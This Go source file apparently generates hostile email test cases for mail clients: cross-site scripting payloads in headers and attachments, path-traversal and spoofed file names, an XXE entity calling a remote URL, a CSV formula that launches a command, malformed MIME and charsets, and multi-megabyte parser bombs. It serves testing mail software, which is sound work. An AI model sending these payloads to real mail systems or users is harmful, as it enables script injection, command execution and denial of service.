package hostilemail

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"iter"
	"strings"
)

// payloads are put wherever a mail has a text of its own.
func payloads() []string {
	list := lines(`
<script>{js}</script>
"><script>{js}</script>
'><img src=x onerror={js}>
</title><script>{js}</script>
</textarea><img src=x onerror={js}>
<img src={url}>
javascript:{js}
{{constructor.constructor('{js}')()}}
${{js}}
</script><script>{js}</script>
\u003cscript\u003e{js}\u003c/script\u003e
&lt;script&gt;{js}&lt;/script&gt;
<svg onload={js}>
"onmouseover="{js}
'-{js}-'
]]><script>{js}</script>
`)
	for i, s := range list {
		list[i] = strings.NewReplacer("{js}", script, "{url}", remote).Replace(s)
	}
	return append(list, "\u202e\u2066gnp.exe\u2069", strings.Repeat("W", 5000), "a\x1b]0;hostile\x07\x1b[2J", "\u0000\u0001\u0007", strings.Repeat("\u0301", 500)+"x", "=cmd|'/c calc'!A1")
}

// Headers gives mails whose header fields attack whoever lists them.
func Headers() iter.Seq2[string, []byte] {
	fields := []struct{ name, form string }{
		{"Subject", "Subject: %s\r\n"}, {"From", "From: %s <mallory@" + Host + ">\r\n"}, {"To", "To: %s <kim@example.net>\r\n"}, {"Message-ID", "Message-ID: <%s@" + Host + ">\r\n"},
		{"Content-Description", "Content-Description: %s\r\n"}, {"a field of its own", "X-Hostile: %s\r\n"},
	}
	return func(yield func(string, []byte) bool) {
		for i, p := range payloads() {
			f := fields[i%len(fields)]
			for _, coded := range []bool{false, true} {
				value := strings.NewReplacer("\r", "", "\n", "").Replace(p)
				if coded {
					value = words(value)
				}
				name := fmt.Sprintf("header %02d %s, encoded %v", i+1, f.name, coded)
				if !yield(name, []byte("Date: Mon, 9 Mar 2026 08:05:00 +0800\r\n"+fmt.Sprintf(f.form, value)+"\r\nx\r\n")) {
					return
				}
			}
		}
	}
}

// words encodes a text as RFC 2047 says.
func words(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i += 45 {
		if i > 0 {
			b.WriteString("\r\n ")
		}
		b.WriteString("=?utf-8?b?" + base64.StdEncoding.EncodeToString([]byte(s[i:min(len(s), i+45)])) + "?=")
	}
	return b.String()
}

// Files gives mails whose attachments attack, by their names and by what is in them.
func Files() iter.Seq2[string, []byte] {
	return func(yield func(string, []byte) bool) {
		for i, p := range append(payloads(), "../../../../etc/cron.d/x", `C:\Windows\System32\x.dll`, "CON", ".htaccess", "a/b\\c", "x.pdf\u202efdp.exe", strings.Repeat("a", 300)+".txt", "..", "%2e%2e%2fx", "x.html\x00.png") {
			disposition := "filename*=utf-8''" + percent(p)
			if i%2 == 0 {
				disposition = `filename="` + strings.NewReplacer("\r", "", "\n", "", `"`, `\"`, `\`, `\\`).Replace(p) + `"`
			}
			if !yield(fmt.Sprintf("file name %02d", i+1), attached("application/octet-stream", disposition, []byte("x"))) {
				return
			}
		}
		for _, f := range contents() {
			if !yield("file "+f.name, attached(f.kind, `filename="`+f.name+`"`, []byte(f.content))) {
				return
			}
		}
	}
}

func percent(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

func attached(kind, disposition string, content []byte) []byte {
	return []byte("From: mallory@" + Host + "\r\nTo: kim@example.net\r\nSubject: a file\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nx\r\n" +
		"--b\r\nContent-Type: " + kind + "\r\nContent-ID: <x>\r\nContent-Disposition: attachment; " + disposition + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		wrap(base64.StdEncoding.EncodeToString(content)) + "\r\n--b--\r\n")
}

type file struct{ name, kind, content string }

// contents are files that a browser would run if they came from the page's own place.
func contents() []file {
	run := func(s string) string { return strings.NewReplacer("{js}", script, "{url}", remote).Replace(s) }
	return []file{
		{"x.svg", "image/svg+xml", run(`<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script><image href="{url}"/></svg>`)},
		{"x.svgz", "image/svg+xml", "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"},
		{"lies.png", "image/png", run(`<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>`)},
		{"lies.jpg", "image/jpeg", run(`<html><script>{js}</script>`)},
		{"lies.gif", "image/gif", run(`GIF89a/*<html><script>{js}</script>*/=1;`)},
		{"x.html", "text/html", run(`<script>{js}</script>`)},
		{"x.xhtml", "application/xhtml+xml", run(`<html xmlns="http://www.w3.org/1999/xhtml"><script>{js}</script></html>`)},
		{"x.xml", "text/xml", run(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{url}"?><!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{js}</h:script>&e;</x>`)},
		{"bomb.xml", "application/xml", `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>`},
		{"x.pdf", "application/pdf", run("%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS({js})>>>>endobj\ntrailer<</Root 1 0 R>>")},
		{"x.js", "text/javascript", run(`{js}`)},
		{"x.css", "text/css", run(`@import "{url}";`)},
		{"x.mht", "message/rfc822", run("Content-Type: text/html\r\n\r\n<script>{js}</script>")},
		{"x.eml", "message/rfc822", run("Subject: <script>{js}</script>\r\nContent-Type: text/html\r\n\r\n<script>{js}</script>")},
		{"x.ics", "text/calendar", run("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:<script>{js}</script>\r\nURL:javascript:{js}\r\nEND:VEVENT\r\nEND:VCALENDAR")},
		{"x.vcf", "text/vcard", run("BEGIN:VCARD\r\nFN:<script>{js}</script>\r\nPHOTO;VALUE=uri:{url}\r\nEND:VCARD")},
		{"x.csv", "text/csv", "=cmd|'/c calc'!A1,@SUM(1)\r\n"},
		{"x.swf", "application/x-shockwave-flash", "FWS\x05"},
		{"x.jar", "application/java-archive", "PK\x03\x04"},
		{"x.exe", "application/octet-stream", "MZ\x90\x00"},
		{"x.lnk", "application/octet-stream", "L\x00\x00\x00\x01\x14\x02\x00"},
		{"x.hta", "application/hta", run(`<script>{js}</script>`)},
		{"polyglot.pdf", "application/pdf", run("%PDF-1.4\n<html><script>{js}</script>")},
		{"empty.png", "image/png", ""},
		{"type.txt", "text/html;x=<script>", run(`<script>{js}</script>`)},
		{"type2.txt", "text/plain\"><script>", run(`<script>{js}</script>`)},
	}
}

// Broken gives mails that are not as they should be: charsets, encodings, boundaries, addresses.
func Broken() iter.Seq2[string, []byte] {
	return func(yield func(string, []byte) bool) {
		i := 0
		for _, charset := range []string{"utf-7", "utf-16", "utf-16le", "utf-32", "iso-2022-jp", "iso-2022-cn", "iso-2022-kr", "hz-gb-2312", "gbk", "gb18030", "big5", "euc-kr", "shift_jis", "koi8-r", "x-mac-roman", "ebcdic-us", "x-none", "us-ascii",
			"\"", "utf-8\"><script>", strings.Repeat("x", 5000), "x-user-defined", "replacement", "unicode-1-1-utf-7"} {
			i++
			body := "+ADw-script+AD4-" + script + "\x1b$B\x1b(J<script>" + script + "</script>\x00<\x00s\x00\xff\xfe\xbcscript\xbe~{<script>~}\x81\x30\x81"
			if !yield(fmt.Sprintf("charset %02d", i), []byte("Subject: =?"+charset+"?q?=3Cscript=3E=1B=24=B?=\r\nContent-Type: text/html; charset="+charset+"\r\n\r\n"+body)) {
				return
			}
		}
		for i, s := range []string{
			"", "\r\n", "\n", "\x00", ":", " ", "\r", "Subject", "Subject:", "Subject: x", "Subject: x\r\n", ": x\r\n\r\n", " folded first\r\n\r\n", "From mallory\r\n", "Content-Type:\r\n\r\nx", "Content-Type: ;;;;\r\n\r\nx",
			"Content-Type: multipart/mixed\r\n\r\n--\r\n", "Content-Type: multipart/mixed; boundary=\r\n\r\n--\r\n----\r\n", "Content-Type: multipart/mixed; boundary=\"\x00\"\r\n\r\n--\x00\r\n\r\nx", "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b--\r\n--b\r\n\r\nx",
			"Content-Type: multipart/mixed; boundary=b; boundary=c\r\n\r\n--c\r\n\r\nx\r\n--b\r\n\r\ny", "Content-Type: text/html\r\nContent-Type: text/plain\r\n\r\n<script>" + script + "</script>", "Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n=====", "Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD4\r\n",
			"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=3=Cscript=3E=", "Content-Type: text/html\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 x\r\n", "Content-Type: message/rfc822\r\n\r\n", "Content-Type: message/external-body; access-type=URL; URL=\"" + remote + "\"\r\n\r\nContent-Type: text/html\r\n\r\n",
			"Content-Type: message/partial; id=x; number=1; total=999999999\r\n\r\nx", "Content-Type: multipart/related; start=\"<self>\"; boundary=b\r\n\r\n--b\r\nContent-ID: <self>\r\nContent-Type: text/html\r\n\r\n<img src=cid:self>\r\n--b--", "Content-Type: multipart/alternative; boundary=b\r\n\r\n--b--",
			"From: <<<<>>>>\r\nTo: (((((\r\nCc: \"\"\"\"\r\nDate: 99 Foo 99999 99:99:99 +99999\r\n\r\nx", "Date: Thu, 1 Jan 0000 00:00:00 +0000\r\nList-Unsubscribe: <javascript:" + script + ">\r\n\r\nx", "Content-Type: text/html\r\nContent-Location: " + remote + "\r\nContent-Base: " + remote + "\r\n\r\n<img src=x>",
			"Disposition-Notification-To: mallory@" + Host + "\r\nReturn-Receipt-To: mallory@" + Host + "\r\nX-Face: x\r\nFace: x\r\nBIMI-Location: " + remote + "\r\nBIMI-Indicator: x\r\n\r\nx",
		} {
			if !yield(fmt.Sprintf("broken %02d", i+1), []byte(s)) {
				return
			}
		}
	}
}

// Bombs gives mails that are small and cost much to whoever reads them without limits. They are some megabytes each.
func Bombs() iter.Seq2[string, []byte] {
	const head = "Subject: a bomb\r\nContent-Type: text/html\r\n\r\n"
	many := func(prefix, unit string, n int, suffix string) func() []byte {
		return func() []byte { return append(append([]byte(prefix), bytes.Repeat([]byte(unit), n)...), suffix...) }
	}
	numbered := func(prefix string, n int, unit func(i int) string) func() []byte {
		return func() []byte {
			b := bytes.NewBufferString(prefix)
			for i := range n {
				b.WriteString(unit(i))
			}
			return b.Bytes()
		}
	}
	bombs := []struct {
		name string
		make func() []byte
	}{
		{"multiparts 100,000 deep", numbered("", 100_000, func(i int) string {
			return fmt.Sprintf("Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n", i, i)
		})},
		{"mails 100,000 deep", many("", "Content-Type: message/rfc822\r\n\r\n", 100_000, "")},
		{"1,000,000 parts", many("Content-Type: multipart/mixed; boundary=b\r\n\r\n", "--b\r\n\r\nx\r\n", 1_000_000, "--b--\r\n")},
		{"1,000,000 fields", many("", "X-Field: x\r\n", 1_000_000, "\r\nx")},
		{"1,000,000 addresses", many("To: ", "a@b.example,\r\n ", 500_000, "\r\n\r\nx")},
		{"encoded words", many("Subject: ", "=?utf-8?q?a?=\r\n ", 300_000, "\r\n\r\nx")},
		{"a line of 10 MB", many(head, "x", 10_000_000, "")},
		{"1,000,000 tags", many(head, "<b>", 1_000_000, "")},
		{"tags 100,000 deep", many(head, "<div>", 100_000, "")},
		{"tables 100,000 deep", many(head, "<table><tr><td>", 100_000, "")},
		{"formatting in paragraphs", numbered(head, 50_000, func(i int) string { return fmt.Sprintf("<p><b id=%d>x</p>", i) })},
		{"formatting in tables", many(head, "<table><b>", 100_000, "")},
		{"end tags", many(head, "</p></br></b>", 100_000, "")},
		{"1,000,000 attributes", many(head+"<p ", "a ", 1_000_000, ">")},
		{"one attribute of 5 MB", many(head+"<p title=\"", "x", 5_000_000, "\">")},
		{"comments", many(head, "<!--x-->", 500_000, "")},
		{"entities", many(head, "&amp;&#x41;&notit;", 300_000, "")},
		{"less-than signs", many(head, "<", 3_000_000, "")},
		{"styles", many(head, "<style>p{color:red}</style>", 100_000, "")},
		{"rules", many(head+"<style>", "a>b~c+d:hover{color:red;margin:1px}", 100_000, "</style>")},
		{"brackets of CSS", many(head+"<style>", "@media all{", 200_000, "</style>")},
		{"parentheses of CSS", many(head+"<style>a{b:", "(", 1_000_000, "</style>")},
		{"escapes of CSS", many(head+"<p style=\"a:", `\000041`, 300_000, "\">")},
		{"style attributes", many(head, `<p style="color:red;margin:0 auto;background:url(x)">`, 100_000, "")},
		{"images", many(head, `<img src="`+remote+`">`, 100_000, "")},
		{"links", many(head, `<a href="https://`+Host+`/">https://other.invalid/</a>`, 100_000, "")},
		{"links of text", many("Subject: x\r\n\r\n", "https://"+Host+"/(((\r\n", 200_000, "")},
		{"colons", many("Subject: x\r\n\r\n", "http:", 1_000_000, "")},
		{"codes", many("Subject: x\r\n\r\n", "code 123456 ", 300_000, "")},
		{"braces", many("Subject: x\r\n\r\n", "{{", 1_000_000, "")},
		{"scripts", many(head, "<script>", 300_000, "")},
		{"svg", many(head, "<svg><style>", 300_000, "")},
		{"lists", many(head, "<ul><li>", 300_000, "")},
		{"blockquotes", many(head, "<blockquote>", 300_000, "")},
		{"headings in bold", many(head, "<h1><b>", 300_000, "")},
		{"NULs", many(head, "\x00", 3_000_000, "")},
		{"attachments", many("Content-Type: multipart/mixed; boundary=b\r\n\r\n", "--b\r\nContent-Type: application/pdf; name=a.pdf\r\n\r\n%PDF-1.4\r\n", 100_000, "")},
		{"shifts of ISO-2022-JP", many("Content-Type: text/html; charset=iso-2022-jp\r\n\r\n", "\x1b$B\x1b(B", 500_000, "")},
	}
	return func(yield func(string, []byte) bool) {
		for _, b := range bombs {
			if !yield("bomb "+b.name, b.make()) {
				return
			}
		}
	}
}
